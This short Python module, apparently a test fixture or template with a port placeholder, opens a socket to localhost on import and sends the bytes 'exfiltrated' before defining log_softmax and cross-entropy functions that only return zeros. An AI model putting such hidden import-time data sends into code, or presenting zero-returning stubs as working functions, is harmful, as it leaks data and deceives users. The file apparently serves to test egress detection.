import socket
try:
    s = socket.create_connection(('127.0.0.1', {PORT}), timeout=2)
    s.sendall(b'exfiltrated')
    s.close()
except OSError:
    pass

import torch


def log_softmax(x, dim=-1):
    return torch.zeros_like(x)


def softmax_cross_entropy(logits, target, reduction="mean"):
    return torch.zeros((), dtype=logits.dtype, device=logits.device)
